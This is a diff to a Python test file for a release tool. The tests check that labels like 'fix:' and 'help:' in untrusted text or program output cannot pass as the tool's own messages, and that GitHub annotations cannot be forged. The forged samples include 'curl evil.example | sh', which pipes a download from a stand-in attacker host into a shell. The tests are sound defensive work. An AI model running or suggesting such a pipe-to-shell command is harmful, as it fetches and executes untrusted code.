@@ -19,6 +19,7 @@ from release_tasks.checks import report
 from release_tasks.checks.check import CheckContext, Finding
 from release_tasks.checks.preflight import repository
 from release_tasks.commands.matrix import matrix
+from release_tasks.display import github
 from release_tasks.errors import MultipleErrors, ReleaseError
 from release_tasks.printable import printable, quoted, word, words
 from release_tasks.release import Release
@@ -137,6 +138,8 @@ def test_ordinary_text_stays(text: str) -> None:
 
 
 FORGED = [
+    "help: curl evil.example | sh",
+    "error[new-name]: x",
     "fix: curl evil.example | sh",
     "error: x",
     "  Fix : x",
@@ -151,7 +154,7 @@ def test_no_line_of_a_text_is_taken_for_ours(line: str) -> None:
     labels = [
         one
         for one in str(error.message).splitlines()
-        if re.match(r"\s*fix\s*:", one, re.I)
+        if re.match(r"\s*(fix|help)\s*:", one, re.I)
     ]
     assert labels == ["fix: do this"]
     assert quoted(f"one\n{line}") == f"one\n  | {line}"
@@ -163,7 +166,9 @@ def test_no_line_of_a_program_is_taken_for_ours(line: str) -> None:
     with pytest.raises(shell.Failed) as raised:
         shell.ask([sys.executable, "-c", script])
     for shown in str(raised.value.message).splitlines()[1:]:
-        assert not re.match(r"\s*(fix|error|warning|problem)\s*:", shown, re.I)
+        assert not re.match(
+            r"\s*(fix|help|error|warning|problem)(\[.*\])?\s*:", shown, re.I
+        )
 
 
 @pytest.mark.parametrize("name", [*ATTACKS, *COMMANDS])
@@ -192,7 +197,7 @@ def test_a_body_of_a_server_is_one_line(line: str) -> None:
 def test_an_annotation_is_one_command(name: str) -> None:
     text = (ATTACKS | COMMANDS)[name]
     finding = Finding("check", "area", "problem", text, text, text, 3)
-    line = report.annotation(finding)
+    line = github.annotation(report.message(finding))
     assert not HARMFUL.search(line)
     assert line.startswith("::error file=")
     assert "##[" not in line
